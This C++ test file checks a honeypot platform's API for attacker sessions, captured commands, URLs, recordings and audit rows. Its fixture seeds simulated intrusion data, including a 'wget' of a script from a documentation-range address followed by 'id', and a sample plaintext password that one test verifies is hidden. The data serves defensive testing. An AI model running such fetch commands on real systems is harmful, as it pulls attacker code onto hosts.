// Sessions as the API shows them: filters, what happened in one, and its recording.
#include <fstream>

#include "api/api_fixture.h"
#include "api/artifacts.h"
#include "base/bytes.h"
#include "base/hash.h"

namespace decnet::api {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

// Takes a body to its end.
class TextSink final : public BodySink {
 public:
  net::Task<Result<void>> write(std::string_view bytes) override {
    text.append(bytes);
    co_return Result<void>{};
  }
  net::Task<void> until_closed() override { co_return; }
  std::string text;
};

class SessionsTest : public ApiTest {
 protected:
  void SetUp() override {
    add("session.started", one_);
    add("login.attempt", one_)
        .add("principal", "root")
        .add("secret_kind", "plaintext")
        .add("secret_b64", to_base64("hunter2"))
        .add("secret_printable", "hunter2")
        .add("outcome", "accepted")
        .add("method", "password");
    batch_.events.back().severity = event::Severity::warning;
    add("command", one_).add("command", "uname -a").add("exit_status", "0");
    add("command", one_).add("command", "wget http://203.0.113.9/x.sh; id");
    add("file.captured", one_)
        .add("sha256", std::string(64, 'a'))
        .add("size", 7)
        .add("name", "x.sh")
        .add("path", "http://203.0.113.9/x.sh");
    segment(0, kHeader + "[0.5,\"o\",\"a\"]\n", false);
    segment(1, kHeader + "[31.0,\"o\",\"b\"]", true);
    add("session.started", two_);
    ASSERT_TRUE(store_->ingest().commit(batch_));
    be("analyst");
  }
  event::Event& add(std::string_view type, const Uuid& session) {
    event::Event event;
    event.origin = 1;
    event.seq = ++seq_;
    event.time = clock_.now() - std::chrono::minutes{10} + std::chrono::seconds{seq_};
    event.decky = "web-01";
    event.service = "ssh";
    event.session = session.text();
    event.type = type;
    event.add("src_ip", session == one_ ? "198.51.100.7" : "198.51.100.8").add("src_port", 40007);
    event.add("dst_ip", "192.0.2.1").add("dst_port", 22).add("proto", "tcp");
    return batch_.events.emplace_back(std::move(event));
  }
  void segment(int number, const std::string& text, bool is_final) {
    const std::string hash = sha256_hex(text);
    const std::string path = artifact_path(folder_, hash);
    std::filesystem::create_directories(std::filesystem::path(path).parent_path());
    std::ofstream(path, std::ios::binary) << text;
    auto& event = add("recording", one_).add("artifact", hash).add("format", "asciicast v2");
    event.add("duration_ms", number == 0 ? 500 : 31'000).add("segment", number);
    event.add("size", text.size());
    if (is_final) event.add("final", "true");
  }
  std::string body(const Response& response) {
    TextSink sink;
    const auto sent = wait_for(response.writer(sink));
    EXPECT_TRUE(sent);
    return sink.text;
  }
  std::string path(std::string_view rest = {}) const {
    return "/sessions/" + one_.text() + std::string(rest);
  }
  std::size_t rows(const std::string& target) {
    const auto response = get(target);
    EXPECT_EQ(response.status, 200) << target << response.content();
    return json(response).at("data").as_array().size();
  }

  const std::string kHeader = "{\"version\":2,\"width\":80,\"height\":24}\n";
  const Uuid one_ = Uuid::v8("one"), two_ = Uuid::v8("two");
  std::uint64_t seq_ = 0;
  store::IngestBatch batch_;
};

TEST_F(SessionsTest, AreFilteredByWhatHappened) {
  EXPECT_EQ(rows("/sessions"), 2U);
  EXPECT_EQ(rows("/sessions?has_recording=true"), 1U);
  EXPECT_EQ(rows("/sessions?has_recording=false&service=ssh"), 1U);
  EXPECT_EQ(rows("/sessions?has_login=true"), 1U);
  EXPECT_EQ(rows("/sessions?ip=198.51.100.8"), 1U);
  EXPECT_EQ(rows("/sessions?command=uname"), 1U);
  EXPECT_EQ(rows("/sessions?command=nobody-typed-this"), 0U);
  EXPECT_EQ(rows("/sessions?duration_min_ms=30000"), 1U);
  EXPECT_EQ(get("/sessions?has_recording=perhaps").status, 400);
  const auto row = json(get("/sessions?has_recording=true")).at("data").at(0);
  EXPECT_EQ(row.at("accepted").as_int64(), 1);
  EXPECT_EQ(row.at("segments").as_int64(), 2);
  EXPECT_EQ(row.at("recorded_ms").as_int64(), 31'000);
}

TEST_F(SessionsTest, OneTellsItsStory) {
  const auto session = json(get(path()));
  EXPECT_EQ(text(session.at("command_list").at(0).at("command")), "uname -a");
  EXPECT_EQ(text(session.at("command_list").at(0).at("exit_status")), "0");
  EXPECT_EQ(session.at("command_list").at(0).at("offset_ms").as_int64(), 2'000);
  EXPECT_EQ(text(session.at("login_list").at(0).at("outcome")), "accepted");
  EXPECT_THAT(boost::json::serialize(session), Not(HasSubstr("hunter2")));
  EXPECT_EQ(text(session.at("file_list").at(0).at("name")), "x.sh");
  ASSERT_EQ(session.at("urls").as_array().size(), 1U) << "typed and fetched, once";
  EXPECT_EQ(text(session.at("urls").at(0)), "http://203.0.113.9/x.sh");
  const auto recording = session.at("recordings").at(0);
  EXPECT_EQ(recording.at("segments").as_int64(), 2);
  EXPECT_EQ(recording.at("missing").as_int64(), 0);
  EXPECT_TRUE(recording.at("final").as_bool());
  EXPECT_FALSE(session.at("cut").as_bool());
}

TEST_F(SessionsTest, AnAttackersUrlsAreListed) {
  const auto attacker = store_->attackers().find_ip("198.51.100.7")->uuid.text();
  const auto list = json(get("/attackers/" + attacker + "/urls"));
  ASSERT_EQ(list.at("data").as_array().size(), 1U);
  EXPECT_EQ(text(list.at("data").at(0).at("url")), "http://203.0.113.9/x.sh");
  EXPECT_EQ(list.at("data").at(0).at("count").as_int64(), 2);
  EXPECT_EQ(text(list.at("data").at(0).at("session_uuid")), one_.text());
  EXPECT_EQ(get("/attackers/" + Uuid::v8("x").text() + "/urls").status, 404);
}

TEST_F(SessionsTest, CommandsInTheirOrderAndBackwards) {
  const auto forth = json(get(path("/commands?limit=1&count=exact")));
  EXPECT_EQ(forth.at("total").as_int64(), 2);
  EXPECT_EQ(text(forth.at("data").at(0).at("command")), "uname -a");
  const auto back = json(get(path("/commands?limit=1&sort=-seq")));
  EXPECT_THAT(text(back.at("data").at(0).at("command")), HasSubstr("wget"));
  EXPECT_EQ(get("/sessions/" + Uuid::v8("x").text() + "/commands").status, 404);
}

TEST_F(SessionsTest, ARecordingIsItsSegmentsJoined) {
  const auto response = get(path("/recording"));
  ASSERT_EQ(response.status, 200);
  EXPECT_EQ(response.content_type, "application/x-asciicast");
  EXPECT_EQ(header(response, "Decnet-Segment"), "1");
  EXPECT_EQ(header(response, "Decnet-Final"), "true");
  EXPECT_EQ(header(response, "Content-Disposition"), "");
  EXPECT_EQ(body(response), kHeader + "[0.5,\"o\",\"a\"]\n[31.0,\"o\",\"b\"]\n");
  EXPECT_EQ(header(get(path("/recording?download=true")), "Content-Disposition"),
            "attachment; filename=\"decnet-" + one_.text() + "-0.cast\"");
  EXPECT_EQ(body(get(path("/recording?after=0"))), "[31.0,\"o\",\"b\"]\n");
  EXPECT_EQ(body(get(path("/recording?after=1"))), "");
}

TEST_F(SessionsTest, ARecordingWithoutItsFirstSegmentStillHasAHeader) {
  std::filesystem::remove(artifact_path(folder_, sha256_hex(kHeader + "[0.5,\"o\",\"a\"]\n")));
  EXPECT_EQ(body(get(path("/recording"))), kHeader + "[31.0,\"o\",\"b\"]\n");
  EXPECT_EQ(json(get(path())).at("recordings").at(0).at("missing").as_int64(), 1);
  std::filesystem::remove_all(folder_ + "/artifacts");
  EXPECT_EQ(code(get(path("/recording"))), "not_kept");
}

TEST_F(SessionsTest, NothingWasRecordedElsewhere) {
  EXPECT_EQ(get("/sessions/" + two_.text() + "/recording").status, 404);
  EXPECT_EQ(get(path("/recording?recording=1")).status, 404);
  EXPECT_EQ(get(path("/recording?recording=-1")).status, 404);
}

TEST_F(SessionsTest, WhoWatchesIsAnAnalystAndLeavesARow) {
  ASSERT_EQ(get(path("/recording")).status, 200);
  ASSERT_EQ(get(path("/recording?after=0")).status, 200);
  const auto rows = store_->accounts().audit_log({}, {}, {}, {});
  ASSERT_TRUE(rows);
  std::size_t told = 0;
  for (const auto& row : rows->rows)
    told += row.action == "getSessionRecording" && row.target == one_.text();
  EXPECT_EQ(told, 1U);
  be("viewer");
  EXPECT_EQ(code(get(path("/recording"))), "role_required");
  EXPECT_EQ(get(path()).status, 200);
}

}  // namespace
}  // namespace decnet::api
